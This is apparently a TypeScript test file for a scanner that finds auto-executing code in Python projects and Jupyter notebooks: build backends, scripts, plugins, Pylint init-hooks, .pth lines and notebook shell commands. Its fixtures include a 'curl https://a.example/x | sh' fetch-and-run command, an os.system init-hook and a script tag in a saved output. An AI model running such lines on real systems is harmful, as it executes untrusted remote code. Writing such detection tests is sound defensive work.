import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { formatPlace } from "@doorward/core";
import { readFiles, surfacesOf, tellSettings, tellSurfaces } from "../surfaces.test-support.ts";

const notebook = (cells: unknown[]) => ({ "a.ipynb": JSON.stringify({ cells, metadata: {} }, null, 1) });

const output = (data: unknown) =>
  notebook([{ cell_type: "code", source: [], outputs: [{ output_type: "display_data", data }] }]);

describe("Python projects", () => {
  it("finds a build backend that lies in the project", () => {
    const files = {
      "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend.api"\nbackend-path = ["tools"]\n',
      "tools/backend/api.py": "",
    };
    assert.deepEqual(tellSurfaces("python", files), ['install! build-backend "backend.api" tools/backend/api.py']);
    const [backend] = surfacesOf("python", files);
    assert.equal(backend && formatPlace(backend.at), "pyproject.toml:3:18");
  });

  it("says nothing of an ordinary backend", () => {
    const files = {
      "pyproject.toml":
        '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n[project]\nname = "a"\n',
    };
    assert.deepEqual(tellSurfaces("python", files), []);
  });

  it("takes a program with a usual name at the top for the one that people start", () => {
    const files = { "main.py": "", "src/app.py": "", "tools/main.py": "", "mainly.py": "" };
    assert.deepEqual(tellSurfaces("python", files), [
      'start entry-point "main.py" main.py',
      'start entry-point "app.py" src/app.py',
    ]);
  });

  it("reads named scripts of several tools", () => {
    const files = {
      "pyproject.toml":
        '[tool.pdm.scripts]\nstart = "flask run"\npost_install = { cmd = ["sh", "x.sh"] }\n[tool.poe.tasks.test]\nshell = "pytest | tee log"\n',
    };
    assert.deepEqual(tellSurfaces("python", files), [
      'start script "start" flask run',
      'manual script "post_install" sh x.sh',
      'test script "test" pytest | tee log',
    ]);
  });

  it("reads commands of tox, plugins of pytest, and start code of Pylint", () => {
    const files = {
      "tox.ini": "[tox]\nenvlist = py\n[testenv]\ndeps = pytest\ncommands =\n    pytest {posargs}\n    - sh x.sh\n",
      "setup.cfg": "[tool:pytest]\naddopts = -q -p tools.plugin\n",
      "tools/plugin.py": "",
      ".pylintrc": "[MASTER]\ninit-hook='import os; os.system(\"id\")'\n",
    };
    assert.deepEqual(tellSurfaces("tox", files), ['test environment "testenv" pytest {posargs} ; sh x.sh']);
    assert.deepEqual(tellSurfaces("pytest", files), ['test plugin "tools.plugin" tools/plugin.py']);
    const { programs, surfaces } = readFiles(files);
    assert.deepEqual(
      programs.map(({ code, surface }) => [code, surfaces[surface]?.tool]),
      [['import os; os.system("id")', "pylint"]],
    );
  });

  it("runs import lines of .pth files in a site folder and a wheel, and leaves paths alone", () => {
    const text = "/some/folder\nimport a; a.b()\n# import c\n";
    const inWheel = readFiles({ "a.whl!/a.pth": text, "x.txt": "" });
    assert.deepEqual(
      inWheel.surfaces.map(({ automatic, at }) => [automatic, formatPlace(at)]),
      [[true, "a.whl!/a.pth:2:1"]],
    );
    assert.deepEqual(
      inWheel.programs.map(({ code }) => code),
      ["import a; a.b()"],
    );
    assert.equal(surfacesOf("python", { "venv/lib/python3/site-packages/a.pth": text })[0]?.automatic, true);
    assert.deepEqual(tellSurfaces("python", { "a.pth": "../src\n" }), []);
  });

  it("tells the top module of each package, and start modules", () => {
    const files = {
      "src/app/__init__.py": "",
      "src/app/inner/__init__.py": "",
      "sitecustomize.py": "",
      "setup.py": "",
    };
    assert.deepEqual(
      surfacesOf("python", files).map(({ what, files: ran, atRoot }) => `${what} ${ran.join()} ${atRoot}`),
      ["build-script setup.py true", "start-module sitecustomize.py true", "entry-point src/app/__init__.py true"],
    );
  });
});

describe("notebooks", () => {
  it("reads marked lines as commands and the rest as a program, line for line", () => {
    const files = notebook([
      {
        cell_type: "code",
        source: ["import os\n", "!curl https://a.example/x | sh\n", "files = !ls\n", "print(1)"],
        outputs: [],
      },
      { cell_type: "markdown", source: ["!not a command"] },
    ]);
    const { surfaces, programs } = readFiles(files);
    assert.deepEqual(
      surfaces.flatMap(({ commands }) => commands.map(({ text, at }) => `${text} ${formatPlace(at)}`)),
      ["curl https://a.example/x | sh a.ipynb:7:7", "ls a.ipynb:8:15"],
    );
    assert.equal(programs[0]?.code, "import os\npass\npass\nprint(1)");
    assert.deepEqual(
      programs[0]?.lines.map(({ line }) => line),
      [6, 7, 8, 9],
    );
  });

  it("reads cells of another language", () => {
    const files = notebook([
      { cell_type: "code", source: "%%bash\ncurl https://a.example/x\nsh x", outputs: [] },
      { cell_type: "code", source: ["%%script node\n", "console.log(1)"], outputs: [] },
      { cell_type: "code", source: ["%matplotlib inline\n", "%pip install numpy\n", "x = 5 % 2"], outputs: [] },
    ]);
    const { surfaces, programs } = readFiles(files);
    assert.deepEqual(
      surfaces.map(({ commands }) => commands.map(({ text, shell }) => `${shell ?? ""} ${text}`)),
      [["posix curl https://a.example/x\nsh x"], [], [" pip install numpy"]],
    );
    assert.deepEqual(
      programs.map(({ language, code }) => [language, code]),
      [
        ["javascript", "console.log(1)"],
        ["python", "pass\npass\nx = 5 % 2"],
      ],
    );
  });

  it("tells saved outputs that hold a program, and no plain table", () => {
    const script = readFiles(output({ "text/html": ["<div></div>\n", "<script>fetch('https://a.example')</script>"] }));
    assert.deepEqual(
      script.surfaces.map(({ what, trigger }) => [what, trigger]),
      [["saved-output", "open-folder"]],
    );
    assert.equal(script.programs[0]?.code, "fetch('https://a.example')");
    assert.equal(readFiles(output({ "application/javascript": "alert(1)" })).programs[0]?.code, "alert(1)");
    assert.deepEqual(readFiles(output({ "text/html": "<table><tr><td>1</td></tr></table>" })).surfaces, []);
  });
});

describe("settings of checkers", () => {
  it("tells a plugin of the project, and none that is installed", () => {
    const files = { "pyproject.toml": '[tool.mypy]\nplugins = ["./tools/p.py", "pydantic.mypy"]\n', "tools/p.py": "" };
    assert.deepEqual(tellSurfaces("python", files), ['lint plugin "./tools/p.py" tools/p.py']);
    assert.deepEqual(tellSettings("python", files), []);
  });
});
